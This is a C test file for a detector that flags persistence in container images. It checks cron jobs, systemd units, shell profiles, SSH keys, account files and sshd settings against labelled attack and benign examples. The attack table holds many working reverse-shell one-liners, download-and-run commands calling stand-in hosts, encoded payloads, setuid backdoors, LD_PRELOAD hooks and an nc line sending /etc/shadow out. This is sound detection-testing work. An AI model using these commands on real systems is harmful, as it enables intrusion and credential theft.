/*
 * test_persistence.c - the persistence detector. Table-driven: each case
 * is a file at a path the detector reads and the rule ids it must report
 * (or none), so benign look-alikes sit next to the attacks they resemble.
 * The finish step (ld.so.preload, sshd's effective configuration, the image
 * config, setuid and hidden executables) runs on a real merged filesystem
 * built from the fed entries, with the real dpkg analyzer as the owner of
 * package files.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "feed.h"
#include "analyze/finish.h"
#include "image/image.h"
#include "base/limits.h"
#include "base/str.h"

extern const struct analyzer analyzer_persistence;
extern const struct analyzer analyzer_dpkg;

/* ---- helpers ---- */

static const struct layer_finding *
nth_finding(const struct feed *f, size_t k)
{
    size_t i, j;

    for (i = 0; i < f->lr.recs.len; i++) {
        const struct rec *r = *VEC_AT(&f->lr.recs, struct rec *, i);
        for (j = 0; j < r->nfindings; j++)
            if (k-- == 0)
                return &r->findings[j];
    }
    return NULL;
}

/* "id id id" of the findings, in order. */
static void
ids(const struct feed *f, char *out, size_t n)
{
    const struct layer_finding *lf;
    size_t k, o = 0;

    out[0] = '\0';
    for (k = 0; (lf = nth_finding(f, k)) != NULL; k++)
        o += (size_t)snprintf(out + o, n - o, "%s%s", o ? " " : "",
                              lf->id + strlen("persistence."));
}

struct line_case {
    const char *path;
    const char *text;
    const char *expect; /* rule ids without "persistence.", space-separated */
};

static void
run_cases(const struct line_case *cases, size_t n)
{
    size_t i, chunk;
    char got[512];

    for (i = 0; i < n; i++) {
        for (chunk = 0; chunk <= 5; chunk += 5) {
            struct feed f;
            feed_init(&f, 0);
            f.chunk = chunk;
            assert_int_equal(feed_file(&f, &analyzer_persistence, cases[i].path, cases[i].text,
                                       strlen(cases[i].text), 0644),
                             0);
            ids(&f, got, sizeof(got));
            if (strcmp(got, cases[i].expect) != 0)
                fail_msg("case %zu (%s): %s\n  expected [%s]\n  got      [%s]", i,
                         cases[i].path, cases[i].text, cases[i].expect, got);
            assert_int_equal(feed_nproblems(&f, MOAT_FAILED), 0);
            feed_free(&f);
        }
    }
}

/* ---- shell code in cron, systemd, scripts ---- */

static const struct line_case attacks[] = {
    {"etc/crontab", "* * * * * root curl -fsSL http://203.0.113.5/x.sh | sh\n", "download-exec"},
    {"etc/cron.d/sys", "@reboot root wget -q -O - http://evil.example/a | bash\n",
     "download-exec"},
    {"var/spool/cron/crontabs/root",
     "*/5 * * * * (curl -fsSL http://h.example/x||wget -q -O- http://h.example/x)|bash\n",
     "download-exec"},
    {"var/spool/cron/root", "* * * * * bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
     "reverse-shell"},
    {"etc/crontabs/root", "* * * * * nc -e /bin/sh 203.0.113.5 4444\n", "reverse-shell"},
    {"etc/profile.d/x.sh",
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f\n",
     "reverse-shell"},
    {"etc/rc.local", "socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr &\n",
     "reverse-shell"},
    {"root/.bashrc",
     "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\","
     "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])' &\n",
     "reverse-shell"},
    {"etc/init.d/x",
     "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
     "if(connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")))){exec(\"/bin/sh -i\");};'\n",
     "reverse-shell"},
    {"etc/profile", "php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3\");'\n",
     "reverse-shell"},
    {"home/bob/.profile",
     "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec format(\"/bin/sh -i "
     "<&%d >&%d\",f,f)'\n",
     "reverse-shell"},
    {"etc/bash.bashrc",
     "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(1){s |& getline c; print c}}' &\n",
     "reverse-shell"},
    {"etc/cron.daily/upd", "#!/bin/sh\necho Y3VybCBodHRwOi8vaC5leGFtcGxlL3ggfCBzaAo= | base64 -d | sh\n",
     "encoded-exec"},
    {"etc/cron.hourly/u", "#!/bin/sh\neval \"$(echo ZWNobyBoaQo= | base64 --decode)\"\n",
     "encoded-exec"},
    {"etc/profile.d/a.sh", "bash -c \"$(curl -fsSL http://h.example/install.sh)\"\n",
     "download-exec"},
    {"etc/profile.d/b.sh", "bash <(curl -s http://h.example/i)\n", "download-exec"},
    {"etc/profile.d/c.sh", "source <(wget -qO- http://h.example/i)\n", "download-exec"},
    {"etc/rc.local", "cd /tmp && wget http://h.example/m && chmod +x m && ./m\n",
     "download-exec"},
    {"etc/rc.local", "curl -o /tmp/.x http://h.example/x; chmod 755 /tmp/.x; /tmp/.x\n",
     "download-exec runs-from-tmp"},
    {"etc/init.d/upd",
     "#!/bin/sh\nwget -O /var/tmp/upd http://h.example/u\n# make it run\nchmod +x /var/tmp/upd\n"
     "/var/tmp/upd &\n",
     "download-exec runs-from-tmp download-exec"},
    {"etc/rc.local", "chmod u+s /bin/bash\n", "setuid-chmod"},
    {"etc/rc.local", "cp /bin/sh /var/.s; chmod 4755 /var/.s\n", "setuid-chmod"},
    {"etc/cron.d/x", "0 3 * * * root nc 203.0.113.5 4444 < /etc/shadow\n", "network-tool"},
    {"etc/profile.d/p.sh", "export LD_PRELOAD=/usr/lib/libsneaky.so\n", "ld-preload-script"},
    {"usr/lib/systemd/system/x.service",
     "[Service]\nExecStart=/bin/sh -c 'curl -s http://h.example/x | sh'\n", "download-exec"},
    {"etc/systemd/system/y.service.d/override.conf",
     "[Service]\nEnvironment=\"LD_PRELOAD=/opt/.l/x.so\"\nExecStartPre=-/usr/bin/wget -qO- \\\n"
     "   http://h.example/p | /bin/sh\n",
     "ld-preload-script download-exec"},
    {"etc/environment", "PATH=\"/usr/bin:/bin\"\nLD_PRELOAD=/lib/x.so\n", "ld-preload-script"},
    {"root/.zshrc", "curl http://h.example/s | sudo -E bash -\n", "download-exec"},
    {"etc/cron.d/y", "* * * * * root timeout 10 curl http://h.example/s | busybox sh\n",
     "download-exec"},
    {"etc/cron.d/z", "* * * * * root c''url http://h.example/s | s\\h\n", "download-exec"},
    {"etc/cron.d/w", "* * * * * root $'\\x63\\x75\\x72\\x6c' http://h.example/s | sh\n",
     "download-exec"},
    {"etc/init.d/hd", "#!/bin/sh\nbash <<EOF\ncurl http://h.example/x | sh\nEOF\necho done\n",
     "download-exec"},
    {"etc/rc.local", "su -c \"curl http://h.example/x | sh\" root\n", "download-exec"},
    {"etc/init.d/fn", "#!/bin/sh\nstart() {\n    curl http://h.example/x | sh\n}\nstart\n",
     "download-exec"},
    {"etc/cron.weekly/py",
     "#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket()\n"
     "s.connect(('203.0.113.5', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
     "pty.spawn('/bin/sh')\n",
     "reverse-shell"},
    {"etc/anacrontab", "SHELL=/bin/sh\n1 5 upd curl -s http://h.example/u | sh\n",
     "download-exec"},
    {"etc/rc.local",
     "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect "
     "203.0.113.5:443 > /tmp/s\n",
     "runs-from-tmp reverse-shell"}, /* the shell reads commands from /tmp/s */
    {"etc/rc.local", "exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | while read l; do $l; done\n",
     "reverse-shell"},
    {"etc/update-motd.d/99-x", "#!/bin/sh\nwget -q -O- http://h.example/m | sh >/dev/null 2>&1\n",
     "download-exec"},
    {"etc/local.d/x.start", "/dev/shm/.k/kworker -o pool.example:3333 &\n", "runs-from-tmp"},
    {"root/.profile", "sh < /tmp/.payload\n", "runs-from-tmp"},
    {"etc/cron.d/v", "*/2 * * * * root curl -s http://h.example/x|sh%\n", "download-exec"},
    {"etc/cron.d/u", "* * * * * root sh%curl -s http://h.example/x | sh\n", "download-exec"},
    {"root/.bashrc", "eval \"$(curl -s http://h.example/e)\"\n", "download-exec"},
    {"root/.bashrc", "$(wget -qO- http://h.example/c)\n", "download-exec"},
    {"root/.bashrc", "`curl -s http://h.example/c`\n", "download-exec"},
    {"root/.bashrc", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://h/x').read())\"\n",
     "download-exec"},    {"etc/profile.d/o.sh", "openssl enc -d -base64 -in /etc/.k | sh\n", "encoded-exec"},
    {"etc/profile.d/x.sh", "echo 6375726c | xxd -r -p | sh\n", "encoded-exec"},
    {"etc/cron.d/var", "* * * * * root U=http://h.example/x; curl -s $U | sh\n", "download-exec"},
    {"etc/cron.d/dl",
     "* * * * * root curl -so /var/lib/.u http://h.example/u && chmod +x /var/lib/.u\n",
     "download-exec"},
    {"etc/cron.d/sx", "@reboot root cp /bin/bash /var/lib/.b && chmod u+s /var/lib/.b\n",
     "setuid-chmod"},
    {"etc/environment", "LD_PRELOAD=/usr/local/lib/libx.so\n", "ld-preload-script"},
    {"root/.ssh/authorized_keys",
     "command=\"nc -e /bin/sh 203.0.113.5 4444\" ssh-ed25519 "
     "AAAAC3NzaC1lZDI1NTE5AAAAIAnqKUzyOrPFxYlY1egzLkbTU9Eb6FE8mTf00SPglsKJ x\n",
     "reverse-shell authorized-keys"},
};

static void
test_attacks(void **state)
{
    (void)state;
    run_cases(attacks, sizeof(attacks) / sizeof(attacks[0]));
}

/* Real-world lines that look like the attacks above and are not. */
static const struct line_case benign[] = {
    {"etc/crontab",
     "# m h dom mon dow user\tcommand\n17 *\t* * *\troot\tcd / && run-parts --report "
     "/etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts "
     "--report /etc/cron.daily; }\n",
     ""},
    {"etc/cron.d/e2scrub_all",
     "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
     "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e "
     "/run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n",
     ""},
    {"etc/cron.d/ping",
     "*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc\n", ""},
    {"etc/cron.d/sync", "0 * * * * root wget -q http://h.example/list.txt -O /var/lib/x/list.txt\n",
     ""},
    {"etc/cron.d/health", "* * * * * root curl -s http://localhost:8080/health || exit 1\n", ""},
    {"etc/profile.d/n.sh", "nc -z localhost 5432 && nc -z db.example.com 5432\n", ""},
    {"etc/profile.d/e.sh", "echo \"run: curl http://h.example/i | sh\"\n", ""},
    {"etc/profile.d/p.sh", "python3 -c 'import socket; print(socket.gethostname())'\n", ""},
    {"etc/profile.d/q.sh", "bash -c \"echo hi | cat\"\n", ""},
    {"etc/profile.d/r.sh", "exec 3<>/dev/tcp/localhost/80\n", ""},
    {"etc/rc.local", "chmod +x /usr/local/bin/app\nchmod 0755 /srv/x\nchmod g+w /srv\n", ""},
    {"etc/rc.local", "chmod 2775 /usr/local/share/x\nchmod g+s /srv/shared\n", ""}, /* setgid dirs */
    {"etc/rc.local", "chmod ug+s /usr/local/bin/x\n", "setuid-chmod"},
    {"etc/profile.d/g.sh", "gdb --eval-command=\"set environment LD_PRELOAD=/x.so\" prog\n", ""},
    {"etc/profile.d/u.sh", "unset LD_PRELOAD\nLD_PRELOAD=\n[ -n \"$LD_PRELOAD\" ] && echo x\n",
     ""},
    {"etc/rc.local", "sh /etc/init.d/foo start\nbase64 -d key.b64 > key.bin\n", ""},
    {"root/.bashrc", "eval \"$(ssh-agent -s)\"\nsource <(kubectl completion bash)\n", ""},
    {"root/.bashrc",
     "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
     "# Note: PS1 and umask are already set in /etc/profile. You should not\n"
     "# need this unless you want different defaults for root.\n"
     "# PS1='${debian_chroot:+($debian_chroot)}\\h:\\w\\$ '\n# umask 022\n\n"
     "# You may uncomment the following lines if you want `ls' to be colorized:\n"
     "# export LS_OPTIONS='--color=auto'\n# eval \"$(dircolors)\"\n"
     "# alias ls='ls $LS_OPTIONS'\n",
     ""},
    {"etc/profile",
     "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:"
     "/sbin:/bin\"\nelse\n  PATH=\"/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\"\nfi\n"
     "export PATH\n\nif [ \"${PS1-}\" ]; then\n  if [ \"${BASH-}\" ] && [ \"$BASH\" != \"/bin/sh\" "
     "]; then\n    if [ -f /etc/bash.bashrc ]; then\n      . /etc/bash.bashrc\n    fi\n  else\n"
     "    if [ \"$(id -u)\" -eq 0 ]; then\n      PS1='# '\n    else\n      PS1='$ '\n    fi\n  fi\n"
     "fi\n\nif [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n    if [ -r $i ]; "
     "then\n      . $i\n    fi\n  done\n  unset i\nfi\n",
     ""},
    {"etc/cron.daily/apt-compat",
     "#!/bin/sh\nset -e\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\nrandom_sleep()\n{\n"
     "    RandomSleep=1800\n    eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)\n"
     "    if [ $RandomSleep -eq 0 ]; then\n\treturn\n    fi\n    if [ -z \"$RANDOM\" ] ; then\n"
     "\tRANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % "
     "32767 ))\n    fi\n    TIME=$(($RANDOM % $RandomSleep))\n    sleep $TIME\n}\n"
     "if which on_ac_power >/dev/null 2>&1; then\n    on_ac_power >/dev/null 2>&1\n"
     "    if [ $? -eq 1 ]; then\n\texit 0\n    fi\nfi\nrandom_sleep\nexec "
     "/usr/lib/apt/apt.systemd.daily\n",
     ""},
    {"usr/lib/systemd/system/e2scrub@.service",
     "[Unit]\nDescription=Online ext4 Metadata Check for %I\n[Service]\nType=oneshot\n"
     "ExecStart=/usr/sbin/e2scrub -t %I\nSyslogIdentifier=e2scrub\nPrivateNetwork=true\n",
     ""},
    {"etc/profile.d/j.sh", "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
     "ld-preload-script"}, /* low severity: checked below */
    {"etc/cron.weekly/py2",
     "#!/usr/bin/python3\nimport socket, subprocess\nprint(socket.gethostname())\n"
     "subprocess.run(['logrotate', '/etc/x'])\n",
     ""},
    {"etc/init.d/bin", "\x7f" "ELF\x02\x01\x01 curl http://h | sh", ""},    /* known limit (docs/DETECTORS.md): a command named by a variable is not resolved */
    {"etc/cron.d/limit", "* * * * * root C=bash; curl -s http://h.example/x | $C\n", ""},
    {"etc/cron.d/dlonly", "0 3 * * * root curl -so /var/lib/app/feed.json https://h.example/f\n",
     ""},
    {"etc/cron.d/tls",
     "0 6 * * * root echo | openssl s_client -connect h.example:443 2>/dev/null | openssl x509 "
     "-noout -enddate\n",
     ""}, /* a certificate expiry check */
};

static void
test_benign(void **state)
{
    struct feed f;
    const struct layer_finding *lf;
    const char *j = "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n";

    (void)state;
    run_cases(benign, sizeof(benign) / sizeof(benign[0]));
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/profile.d/j.sh", j, strlen(j), 0);
    lf = nth_finding(&f, 0);
    assert_non_null(lf);
    assert_string_equal(lf->severity, "low");
    feed_free(&f);
    /* a variable's value: medium */
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/profile.d/v.sh", "LD_PRELOAD=$LIB prog\n", 21, 0);
    lf = nth_finding(&f, 0);
    assert_non_null(lf);
    assert_string_equal(lf->severity, "medium");
    feed_free(&f);
}

/* Evidence: line number, offset, the line cut and with credentials gone. */
static void
test_evidence(void **state)
{
    struct feed f;
    const struct layer_finding *lf;
    const char *t = "# first\n* * * * * root curl -u admin:S3cretPass "
                    "https://bob:hunter2@h.example/x -H 'Authorization: Bearer abc.def.ghi' | "
                    "GITHUB_TOKEN=ghp_abcdef sh\n";
    char longline[600];
    size_t i;

    (void)state;
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/cron.d/x", t, strlen(t), 0);
    lf = nth_finding(&f, 0);
    assert_non_null(lf);
    assert_string_equal(lf->id, "persistence.download-exec");
    assert_string_equal(lf->severity, "critical");
    assert_string_equal(lf->title, "cron job downloads code and runs it");
    assert_int_equal(lf->offset, 8);
    assert_true(strncmp(lf->evidence, "line 2: * * * * * root curl -u admin:***", 40) == 0);
    assert_null(strstr(lf->evidence, "S3cret"));
    assert_null(strstr(lf->evidence, "hunter2"));
    assert_null(strstr(lf->evidence, "abc.def"));
    assert_non_null(strstr(lf->evidence, "https://bob:***@h.example/x"));
    feed_free(&f);

    /* a long line is cut; control bytes are not copied */
    memcpy(longline, "* * * * * root curl http://h.example/\x01", 38);
    for (i = 38; i < sizeof(longline) - 12; i++)
        longline[i] = 'a';
    memcpy(longline + i, " | sh\n", 7);
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/cron.d/x", longline, strlen(longline), 0);
    lf = nth_finding(&f, 0);
    assert_non_null(lf);
    assert_true(strlen(lf->evidence) <= strlen("line 1: ") + 120 + 3);
    assert_true(str_ends(lf->evidence, "..."));
    assert_null(strchr(lf->evidence, '\x01'));
    feed_free(&f);
}

/* ---- accounts, keys ---- */

static void
test_passwd_shadow(void **state)
{
    const char *pw = "root:x:0:0:root:/root:/bin/bash\n"
                     "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                     "toor:x:0:0::/root:/bin/sh\n"
                     "bob::1000:1000::/home/bob:/bin/bash\n"
                     "broken line\n"
                     "+::::::\n";
    const char *sh = "root:*:19000:0:99999:7:::\n"
                     "daemon:*:19000:0:99999:7:::\n"
                     "bob::19000:0:99999:7:::\n"
                     "alice:!:19000:0:99999:7:::\n"
                     "carol:!!:19000::::::\n"
                     "dave:$y$j9T$abc$def:19000:0:99999:7:::\n";
    struct feed f;
    const struct layer_finding *lf;
    char got[256];

    (void)state;
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/passwd", pw, strlen(pw), 0);
    ids(&f, got, sizeof(got));
    assert_string_equal(got, "uid0-account passwd-empty-password");
    lf = nth_finding(&f, 0);
    assert_string_equal(lf->evidence, "line 3: account 'toor' has uid 0 (shell /bin/sh)");
    assert_string_equal(lf->severity, "critical");
    lf = nth_finding(&f, 1);
    assert_non_null(strstr(lf->evidence, "line 4: account 'bob'"));
    assert_int_equal(feed_nproblems(&f, MOAT_WARN), 1); /* "broken line" */
    feed_free(&f);

    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/shadow", sh, strlen(sh), 0);
    ids(&f, got, sizeof(got));
    assert_string_equal(got, "shadow-empty-password");
    lf = nth_finding(&f, 0);
    assert_string_equal(lf->evidence,
                        "line 3: account 'bob' has an empty password hash: no password is asked");
    assert_null(strstr(lf->evidence, "$y$"));
    feed_free(&f);

    /* nothing valid at all: the file could not be checked, and says so */
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "etc/passwd", "garbage\n", 8, 0);
    assert_int_equal(feed_nproblems(&f, MOAT_FAILED), 1);
    feed_free(&f);
}

/* The fingerprint below is what `ssh-keygen -lf` prints for this key. */
static void
test_authorized_keys(void **state)
{
    const char *keys =
        "# added by admin\n"
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAnqKUzyOrPFxYlY1egzLkbTU9Eb6FE8mTf00SPglsKJ "
        "attacker@evil\n"
        "from=\"10.0.0.0/8\",command=\"curl -s http://h.example/x | sh\" ssh-ed25519 "
        "AAAAC3NzaC1lZDI1NTE5AAAAIAnqKUzyOrPFxYlY1egzLkbTU9Eb6FE8mTf00SPglsKJ\n"
        "not a key at all\n";
    struct feed f;
    const struct layer_finding *lf;
    char got[256];

    (void)state;
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "root/.ssh/authorized_keys", keys, strlen(keys), 0600);
    ids(&f, got, sizeof(got));
    assert_string_equal(got, "download-exec authorized-keys");
    lf = nth_finding(&f, 1);
    assert_string_equal(lf->title, "SSH keys are authorized to log in as root");
    assert_string_equal(lf->severity, "high");
    assert_string_equal(lf->evidence,
                        "2 keys (with options): ssh-ed25519 "
                        "SHA256:1pbWRHAp2lECN/6AZ7gnMazFQPIZHSXutH5KVGFcEI4 'attacker@evil'; "
                        "ssh-ed25519 SHA256:1pbWRHAp2lECN/6AZ7gnMazFQPIZHSXutH5KVGFcEI4 (no "
                        "comment)");
    assert_null(strstr(lf->evidence, "AAAAC3"));
    assert_int_equal(lf->offset, 17);
    assert_int_equal(feed_nproblems(&f, MOAT_WARN), 1);
    feed_free(&f);

    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "home/deploy/.ssh/authorized_keys2", keys + 17, 96, 0);
    lf = nth_finding(&f, 0);
    assert_non_null(lf);
    assert_string_equal(lf->title, "SSH keys are authorized to log in as deploy");
    feed_free(&f);

    /* an empty file, only comments: nothing authorized */
    feed_init(&f, 0);
    feed_file(&f, &analyzer_persistence, "root/.ssh/authorized_keys", "# none\n\n", 8, 0);
    assert_null(nth_finding(&f, 0));
    feed_free(&f);
}

static void
test_paths(void **state)
{
    static const struct {
        const char *path;
        uint32_t mode;
        uint64_t size;
        int wanted;
    } cases[] = {
        {"etc/crontab", 0644, 10, 1},
        {"etc/cron.d/x", 0644, 10, 1},
        {"etc/cron.d/sub/x", 0644, 10, 0},
        {"etc/cron.daily/logrotate", 0755, 10, 1},
        {"etc/periodic/daily/x", 0755, 10, 1},
        {"var/spool/cron/crontabs/root", 0600, 10, 1},
        {"usr/lib/systemd/system/ssh.service", 0644, 10, 1},
        {"usr/lib/systemd/system/apt-daily.timer", 0644, 10, 0},
        {"etc/systemd/system/x.service.d/10-override.conf", 0644, 10, 1},
        {"etc/systemd/system/x.conf", 0644, 10, 0},
        {"root/.config/systemd/user/x.service", 0644, 10, 1},
        {"home/bob/.bashrc", 0644, 10, 1},
        {"home/bob/sub/.bashrc", 0644, 10, 0},
        {"home/bob/.ssh/authorized_keys", 0600, 10, 1},
        {"var/lib/git/.ssh/authorized_keys", 0600, 10, 1},
        {"etc/ssh/authorized_keys", 0600, 10, 0},
        {"etc/ssh/sshd_config.d/50-cloud-init.conf", 0644, 10, 1},
        {"etc/ssh/ssh_host_ed25519_key", 0600, 400, 0},
        {"etc/ssh/ssh_config", 0644, 10, 0},
        {"etc/ld.so.preload", 0644, 10, 1},
        {"etc/passwd", 0644, 10, 1},
        {"etc/passwd-", 0644, 10, 0},
        /* ELF sniffing: no exec bits, where executables hide */
        {"tmp/x", 0644, 100, 1},
        {"tmp/x", 0755, 100, 0},  /* the mode says it already */
        {"tmp/x", 0644, 40, 0},   /* too small for an ELF header */
        {"usr/lib/.hidden/x", 0644, 100, 1},
        {"root/.venv/lib/x.so", 0644, 100, 0},
        {"usr/bin/ls", 0644, 100, 0},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct layer_entry le;
        struct entry e;
        memset(&le, 0, sizeof(le));
        le.path = cases[i].path;
        le.type = ENTRY_REG;
        le.mode = cases[i].mode;
        le.size = cases[i].size;
        e.le = &le;
        e.opt = NULL;
        e.path = le.path;
        e.base = strrchr(le.path, '/') ? strrchr(le.path, '/') + 1 : le.path;
        e.layer = 0;
        if ((analyzer_persistence.wants(&e) != WANT_NO) != cases[i].wanted)
            fail_msg("%s mode %o: wanted %d", cases[i].path, (unsigned)cases[i].mode,
                     cases[i].wanted);
    }
}

/* ---- the finish step on a merged filesystem ---- */

struct fin {
    struct feed f;
    struct fs fs;
    struct finish_ctx fc;
    struct arena arena;
    struct image_desc img;
};

static void
fin_feed(struct fin *x, const char *path, const char *text, uint32_t mode)
{
    assert_int_equal(feed_file(&x->f, &analyzer_persistence, path, text, strlen(text), mode), 0);
}

static void
fin_run(struct fin *x, const char *config_json)
{
    struct vec *layers[1] = {&x->f.lr.entries};

    assert_int_equal(fs_merge(&x->fs, layers, 1), 0);
    memset(&x->fc, 0, sizeof(x->fc));
    memset(&x->img, 0, sizeof(x->img));
    arena_init(&x->arena);
    x->img.config_json = config_json;
    x->img.config_len = config_json ? strlen(config_json) : 0;
    x->fc.img = &x->img;
    x->fc.layers = &x->f.lr;
    x->fc.nlayers = 1;
    x->fc.fs = &x->fs;
    x->fc.arena = &x->arena;
    vec_init(&x->fc.problems, sizeof(struct moat_problem), 1000);
    finish_mark_visible(&x->fc);
    assert_int_equal(analyzer_dpkg.finish(&x->fc, &analyzer_dpkg), 0);
    assert_int_equal(analyzer_persistence.finish(&x->fc, &analyzer_persistence), 0);
}

static const struct finish_finding *
fin_find(const struct fin *x, const char *id, const char *path)
{
    size_t i;

    for (i = 0; i < x->fc.findings.len; i++) {
        const struct finish_finding *ff = VEC_AT(&x->fc.findings, struct finish_finding, i);
        if (strcmp(ff->f.id, id) == 0 &&
            (path ? ff->f.path && strcmp(ff->f.path, path) == 0 : !ff->f.path))
            return ff;
    }
    return NULL;
}

static void
fin_free(struct fin *x)
{
    vec_free(&x->fc.findings);
    vec_free(&x->fc.problems);
    finish_owners_free(&x->fc);
    fs_free(&x->fs);
    arena_free(&x->arena);
    feed_free(&x->f);
}

static void
test_finish_preload_config(void **state)
{
    struct fin x;
    const struct finish_finding *ff;

    (void)state;
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/ld.so.preload", "# hide\n/usr/local/lib/libprocesshider.so\n", 0644);
    fin_run(&x, "{\"config\":{\"Env\":[\"PATH=/usr/bin\",\"LD_PRELOAD=/opt/.x/hook.so\","
                "\"LD_LIBRARY_PATH=/usr/local/lib::/tmp/lib\"]}}");
    ff = fin_find(&x, "persistence.ld-so-preload", "etc/ld.so.preload");
    assert_non_null(ff);
    assert_string_equal(ff->f.severity, "critical");
    assert_string_equal(ff->f.evidence, "preloads /usr/local/lib/libprocesshider.so");
    assert_int_equal(ff->f.offset, 7);
    assert_int_equal(ff->layer, 0);
    assert_int_equal(ff->removed, 0);
    ff = fin_find(&x, "persistence.ld-preload-env", NULL);
    assert_non_null(ff);
    assert_string_equal(ff->f.evidence, "ENV LD_PRELOAD=/opt/.x/hook.so");
    assert_int_equal(ff->layer, -1);
    ff = fin_find(&x, "persistence.ld-library-path-env", NULL);
    assert_non_null(ff);
    assert_string_equal(ff->f.severity, "medium");
    assert_int_equal(x.fc.findings.len, 3);
    fin_free(&x);

    /* jemalloc preloaded by name: low; a sane LD_LIBRARY_PATH: nothing */
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/hostname", "x\n", 0644);
    fin_run(&x, "{\"config\":{\"Env\":[\"LD_PRELOAD=libjemalloc.so.2\","
                "\"LD_LIBRARY_PATH=/usr/local/nvidia/lib64:/usr/local/lib\"]}}");
    ff = fin_find(&x, "persistence.ld-preload-env", NULL);
    assert_non_null(ff);
    assert_string_equal(ff->f.severity, "low");
    assert_int_equal(x.fc.findings.len, 1);
    fin_free(&x);

    /* an empty ld.so.preload, or only comments: nothing preloaded */
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/ld.so.preload", "# nothing\n\n", 0644);
    fin_run(&x, NULL);
    assert_int_equal(x.fc.findings.len, 0);
    fin_free(&x);
}

static void
test_finish_sshd(void **state)
{
    struct fin x;
    const struct finish_finding *ff;

    (void)state;
    /* Debian's layout: the Include comes first, so the drop-in's value wins */
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/ssh/sshd_config",
             "Include /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin prohibit-password\n"
             "PermitRootLogin no\nPasswordAuthentication yes\nMatch User deploy\n"
             "\tPermitEmptyPasswords yes\n\tPermitRootLogin no\n",
             0644);
    fin_feed(&x, "etc/ssh/sshd_config.d/99-z.conf", "PermitRootLogin no\n", 0644);
    fin_feed(&x, "etc/ssh/sshd_config.d/10-a.conf", "permitrootlogin=YES\n", 0644);
    fin_feed(&x, "etc/ssh/sshd_config.d/readme.txt", "PermitEmptyPasswords yes\n", 0644);
    fin_run(&x, NULL);
    ff = fin_find(&x, "persistence.sshd-permit-root-login", "etc/ssh/sshd_config.d/10-a.conf");
    assert_non_null(ff);
    assert_string_equal(ff->f.evidence, "line 1: PermitRootLogin yes");
    ff = fin_find(&x, "persistence.sshd-password-authentication", "etc/ssh/sshd_config");
    assert_non_null(ff);
    assert_string_equal(ff->f.evidence, "line 4: PasswordAuthentication yes");
    ff = fin_find(&x, "persistence.sshd-permit-empty-passwords", "etc/ssh/sshd_config");
    assert_non_null(ff);
    assert_string_equal(ff->f.evidence, "line 6: PermitEmptyPasswords yes (in Match User deploy)");
    assert_int_equal(x.fc.findings.len, 3);
    fin_free(&x);

    /* the first value wins: set before the Include, the drop-in is ignored */
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/ssh/sshd_config",
             "PermitRootLogin prohibit-password\nInclude sshd_config.d/*.conf\n"
             "PasswordAuthentication yes\n",
             0644);
    fin_feed(&x, "etc/ssh/sshd_config.d/10-a.conf", "PermitRootLogin yes\n", 0644);
    fin_run(&x, NULL);
    assert_int_equal(x.fc.findings.len, 0);
    fin_free(&x);

    /* an Include loop stops at the nesting limit, with a warning */
    feed_init(&x.f, 0);
    fin_feed(&x, "etc/ssh/sshd_config", "Include /etc/ssh/sshd_config\nPermitRootLogin yes\n",
             0644);
    fin_run(&x, NULL);
